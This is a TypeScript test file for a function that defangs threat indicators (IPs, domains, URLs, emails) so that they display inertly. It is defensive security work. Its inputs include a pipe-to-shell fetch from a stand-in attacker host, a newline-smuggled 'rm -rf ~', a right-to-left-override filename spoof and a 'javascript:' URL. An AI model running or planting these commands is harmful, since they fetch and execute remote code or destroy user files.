import { expect, test } from 'vitest';
import { defanged, type IndicatorForm } from '#shared/domain/defang.ts';
import { HIDING, HOSTILE_TEXTS } from '#test/fakes/hostile-corpus.ts';

test.each<[IndicatorForm, string, string]>([
  ['address', '203.0.113.7', '203[.]0[.]113[.]7'],
  ['address', '2001:db8::1', '2001[:]db8[:][:]1'],
  ['domain', 'evil.example', 'evil[.]example'],
  ['email', 'ada@evil.example', 'ada[@]evil[.]example'],
  ['url', 'https://evil.example/a.php?b=c.d', 'hxxps[://]evil[.]example/a.php?b=c.d'],
  ['url', 'HTTP://evil.example', 'hxxp[://]evil[.]example'],
  ['url', 'http://u:p@evil.example:8080/', 'hxxp[://]u:p[@]evil[.]example:8080/'],
  ['url', 'ftp://evil.example', 'fxp[://]evil[.]example'],
  ['url', 'https://a.example/?to=http://b.example', 'hxxps[://]a[.]example/?to=hxxp[://]b.example'],
  ['url', 'evil.example/path', 'evil[.]example/path'],
  ['plain', 'C:\\temp\\a.exe', 'C:\\temp\\a.exe'],
  ['url', 'ldap://evil.example/a', 'ldap[://]evil[.]example/a'],
  ['url', 'https:\\\\evil.example\\a.b', 'hxxps[:\\\\]evil[.]example\\a.b'],
  ['url', 'http:evil.example/a', 'hxxp[:]evil[.]example/a'],
  ['url', '//evil.example/a.js', '//evil[.]example/a.js'],
  ['url', 'http://evil。example/', 'hxxp[://]evil[。]example/'],
  ['url', 'javascript:alert(1)', 'javascript[:]alert(1)'],
  ['url', 'data:text/html,x', 'data[:]text/html,x'],
  ['url', 'evil.example:8080/a', 'evil[.]example:8080/a'],
  ['plain', 'curl http://evil.example/a | sh', 'curl hxxp[://]evil.example/a | sh'],
  ['plain', '\\\\evil.example\\share\\a.exe', '\\\\evil[.]example\\share\\a.exe'],
  ['plain', 'echo a\nrm -rf ~', 'echo a‹U+000A›rm -rf ~'],
  ['plain', 'invoice_\u202efdp.exe', 'invoice_‹U+202E›fdp.exe'],
])('%s %s becomes %s', (form, text, safe) => {
  expect(defanged(text, form)).toBe(safe);
});

test.each([
  '',
  '://',
  '\u202ehttps://evil.example',
  'https:',
  'javascript:alert(1)',
  'h\nttp://x.y',
])('whatever is written, nothing is left that a program opens: %j', (text) => {
  expect(defanged(text, 'url')).not.toMatch(/https?:\/\//i);
});

const FORMS = ['address', 'url', 'domain', 'email', 'plain'] as const;

test.each(HOSTILE_TEXTS)('$name is copied so that nothing opens, hides or runs', ({ text }) => {
  for (const form of FORMS) {
    const safe = defanged(text, form);
    expect(safe).not.toMatch(HIDING);
    expect(safe).not.toMatch(/[a-z0-9+.-]:(\/\/|\\\\)/i);
    if (form === 'url') expect(safe).not.toMatch(/^(javascript|data|https?):/i);
  }
});
